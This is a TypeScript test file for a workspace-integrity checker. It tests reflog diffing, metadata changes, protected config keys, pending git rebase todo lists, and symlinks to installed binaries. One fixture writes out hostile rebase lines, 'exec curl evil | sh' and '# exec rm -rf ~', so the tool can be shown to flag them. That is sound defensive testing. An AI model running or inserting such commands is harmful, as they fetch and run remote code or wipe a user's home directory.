import { existsSync, mkdtempSync, realpathSync, rmSync, statSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import fc from "fast-check";
import { afterEach, describe, expect, it } from "vitest";
import { keyedEntryProblems, keyedKeyChanges } from "../../src/collect/keyed.js";
import { installedTarget } from "../../src/collect/links.js";
import { describeMeta } from "../../src/collect/meta.js";
import { sequencerFile, sequencerProblems } from "../../src/core/git-sequence.js";
import {
  decodeReflog,
  diffReflog,
  encodeReflog,
  parseReflog,
  type ReflogEntry,
  reflogExpiry,
  unexpiredRemoval,
} from "../../src/core/reflog.js";

const A = "a".repeat(40);
const B = "b".repeat(40);
const Z = "0".repeat(40);

function line(old: string, now: string, time: number, msg?: string): string {
  return `${old} ${now} A U Thor <a@example.com> ${time} +0000${msg === undefined ? "" : `\t${msg}`}`;
}

describe("reflogs by meaning", () => {
  it("an entry means the same with or without the tab git's expiry adds to an empty message", () => {
    const [x] = parseReflog(`${line(Z, A, 100)}\n`);
    const [y] = parseReflog(`${line(Z, A, 100, "")}\n`);
    expect(x!.digest).toBe(y!.digest);
    const [z] = parseReflog(`${line(Z, A, 100, "commit: x")}\n`);
    expect(z!.digest).not.toBe(x!.digest);
  });

  it("the snapshot's compact form round-trips", () => {
    const entries = parseReflog([line(Z, A, 1, "a"), "garbage line", line(A, B, 2, "b")].join("\n"));
    expect(decodeReflog(encodeReflog(entries))).toEqual(entries);
  });

  const entryArb = fc.record({
    time: fc.integer({ min: 1, max: 2_000_000_000 }),
    old: fc.constantFrom(A, B, Z),
    new: fc.constantFrom(A, B),
    digest: fc.uuid(),
  });

  it("removing any entries (order kept) is a pure removal; inserting any new one is an addition", () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(entryArb, { selector: (e) => e.digest, maxLength: 30 }),
        fc.infiniteStream(fc.boolean()),
        (before, keep) => {
          const it = keep[Symbol.iterator]();
          const now = before.filter(() => it.next().value);
          const d = diffReflog(before, now);
          expect(d.added).toBe(0);
          expect(d.removed.length + now.length).toBe(before.length);
          const forged: ReflogEntry = { time: 5, old: A, new: B, digest: "forged" };
          expect(diffReflog(before, [...now, forged]).added).toBe(1);
          // Reordering two kept entries is never a removal only.
          if (now.length >= 2)
            expect(diffReflog(before, [now[1]!, now[0]!, ...now.slice(2)]).added).toBeGreaterThan(0);
        },
      ),
    );
  });

  it("expiry thresholds: defaults, config, the first matching pattern, and the stash never expiring", () => {
    const now = 1_000_000_000n;
    const day = 86_400n;
    expect(reflogExpiry("refs/heads/main", [], now)).toEqual({
      total: now - 90n * day,
      unreachable: now - 30n * day,
    });
    expect(reflogExpiry("refs/stash", [], now)).toEqual({ total: 0n, unreachable: 0n });
    const config = [
      { key: "gc.reflogexpire", value: 5n },
      { key: "gc.refs/heads/x*.reflogexpire", value: 7n },
      { key: "gc.refs/heads/*.reflogexpire", value: 9n },
      { key: "gc.reflogexpire", value: 6n },
    ];
    expect(reflogExpiry("refs/heads/x/y", config, now).total).toBe(7n);
    expect(reflogExpiry("refs/heads/main", config, now).total).toBe(9n);
    expect(reflogExpiry("refs/tags/v1", config, now).total).toBe(6n);
    expect(reflogExpiry("refs/stash", [{ key: "gc.reflogexpire", value: 3n }], now).total).toBe(3n);
  });

  it("a removal passes only for entries git's expiry drops", async () => {
    const expiry = { total: 1000n, unreachable: 2000n };
    const e = (time: number, n = A): ReflogEntry => ({ time, old: Z, new: n, digest: String(time) });
    const none = async () => new Set<string>();
    const all = async (oids: string[]) => new Set(oids);
    expect(await unexpiredRemoval([e(999)], expiry, all)).toBeNull();
    expect(await unexpiredRemoval([e(1500)], expiry, none)).toBeNull();
    expect(await unexpiredRemoval([e(1500)], expiry, all)).toMatch(/1 entry removed that git's expiry keeps/);
    expect(await unexpiredRemoval([e(2500)], expiry, none)).toMatch(/removed that git's expiry keeps/);
  });
});

describe("metadata in words", () => {
  it("names owner, group, ACLs and xattrs, and nothing when nothing changed", () => {
    expect(describeMeta("0 0 -", "0 0 -")).toEqual([]);
    expect(describeMeta("0 0 -", "1 2 -")).toEqual([
      "owner changed (uid 0 → 1)",
      "group changed (gid 0 → 2)",
    ]);
    expect(describeMeta("0 0 -", "0 0 system.posix_acl_access=ab")).toEqual(["ACL added"]);
    expect(describeMeta("0 0 system.posix_acl_default=ab", "0 0 -")).toEqual(["default ACL removed"]);
    expect(describeMeta("0 0 user.x=1", "0 0 user.x=2")).toEqual(["xattr user.x changed"]);
    expect(describeMeta(`0 0 ${encodeURIComponent("user.a,b")}=1`, "0 0 -")).toEqual([
      "xattr user.a,b removed",
    ]);
    // Unknown xattrs (no getfattr) say nothing about xattrs, still about owners.
    expect(describeMeta("0 0 ?", "0 1 ?")).toEqual(["group changed (gid 0 → 1)"]);
  });
});

describe("a keyed file's identity", () => {
  it("a regular file with one link and the same owner passes; links and new owners do not", () => {
    expect(keyedEntryProblems("f 10 1 1000 1000", "f 11 1 1000 1000")).toEqual([]);
    expect(keyedEntryProblems("absent", "f 11 1 1000 1000")).toEqual([]);
    expect(keyedEntryProblems("f 10 1 1000 1000", "l 1000 1000 /wt/c.json")).toEqual([
      'replaced by a symlink to "/wt/c.json"',
    ]);
    expect(keyedEntryProblems("f 10 1 1000 1000", "f 12 2 1000 1000")[0]).toMatch(/hardlinked: 2 names/);
    expect(keyedEntryProblems("f 10 1 1000 1000", "f 10 1 0 1000")).toEqual(["owner changed (uid 1000 → 0)"]);
    // What it was before, unchanged, is what it must stay (a dotfiles manager's link).
    expect(keyedEntryProblems("l 1000 1000 /dots/c.json", "l 1000 1000 /dots/c.json")).toEqual([]);
    expect(keyedEntryProblems("f 10 2 1000 1000", "f 10 2 1000 1000")).toEqual([]);
  });

  it("names the protected keys that changed", () => {
    expect(keyedKeyChanges({ mcpServers: "1" }, { mcpServers: "2", hooks: "3" })).toEqual([
      "hooks added",
      "mcpServers changed",
    ]);
    expect(keyedKeyChanges({}, "!unparseable x")[0]).toMatch(/cannot be read any more \(not valid JSON\)/);
  });
});

describe("a pending rebase or cherry-pick", () => {
  it("exec lines, other refs' update-ref lines and foreign merge strategies are what continuing would run", () => {
    expect(sequencerFile("rebase-merge/git-rebase-todo")).toBe("todo");
    expect(sequencerFile("rebase-merge/done")).toBeNull();
    const todo =
      "pick abc one\n# exec rm -rf ~ (a comment)\nx make test\nexec  curl evil | sh\nupdate-ref refs/heads/agent\nu refs/heads/main\n";
    expect(sequencerProblems("todo", todo, "refs/heads/agent")).toEqual([
      'a pending rebase would run "make test" when continued',
      'a pending rebase would run "curl evil | sh" when continued',
      "a pending rebase would move refs/heads/main when continued",
    ]);
    expect(sequencerProblems("todo", "pick abc one\nedit def two\nbreak\n", "refs/heads/agent")).toEqual([]);
    expect(sequencerProblems("strategy", "ort\n", null)).toEqual([]);
    expect(sequencerProblems("strategy", "evil\n", null)[0]).toMatch(/git-merge-evil/);
    expect(sequencerProblems("opts", "[options]\n\tstrategy = evil\n", null)[0]).toMatch(/git-merge-evil/);
  });
});

describe("installed software, by facts", () => {
  const dirs: string[] = [];
  afterEach(() => {
    for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
  });

  function linkTo(target: string): string {
    const d = realpathSync(mkdtempSync(join(tmpdir(), "fg-links-")));
    dirs.push(d);
    symlinkSync(target, join(d, "link"));
    symlinkSync("link", join(d, "hop"));
    return d;
  }

  const python = ["/usr/bin/python3", "/usr/bin/env"].find((p) => existsSync(p))!;
  const ctx = (d: string, sinceNs = BigInt(Date.now()) * 1_000_000n) => ({
    guarded: [d],
    inside: [d],
    sinceNs,
  });

  it.runIf(statSync(dirname(python)).uid === 0)(
    "a root-owned executable outside the guarded places, older than the run, is installed software; through a link in the write roots too",
    () => {
      const d = linkTo(python);
      expect(installedTarget(join(d, "link"), ctx(d))).toEqual({ target: realpathSync(python) });
      expect(installedTarget(join(d, "hop"), ctx(d))).toEqual({ target: realpathSync(python) });
    },
  );

  it("a target that changed during the run is not (root can put anything in /usr, not with an old ctime)", () => {
    const d = linkTo(python);
    expect(installedTarget(join(d, "link"), ctx(d, 0n))).toMatchObject({
      reason: expect.stringMatching(/changed during the run/),
    });
  });

  it("a target inside a guarded place, one not owned by root, one that is not only run, one that is missing: not", () => {
    const d = linkTo("/etc/passwd");
    expect(installedTarget(join(d, "link"), ctx(d))).toMatchObject({
      reason: expect.stringMatching(/not an executable file/),
    });
    const g = linkTo("/usr/bin");
    expect(installedTarget(join(g, "link"), ctx(g))).toMatchObject({
      reason: expect.stringMatching(/writable directory/),
    });
    const m = linkTo("/usr/bin/no-such-tool-here");
    expect(installedTarget(join(m, "link"), ctx(m))).toMatchObject({
      reason: expect.stringMatching(/does not exist/),
    });
    const h = linkTo(python);
    expect(
      installedTarget(join(h, "link"), {
        guarded: [dirname(realpathSync(python))],
        inside: [h],
        sinceNs: 1n << 62n,
      }),
    ).toMatchObject({
      reason: expect.stringMatching(/which is written during runs/),
    });
  });
});
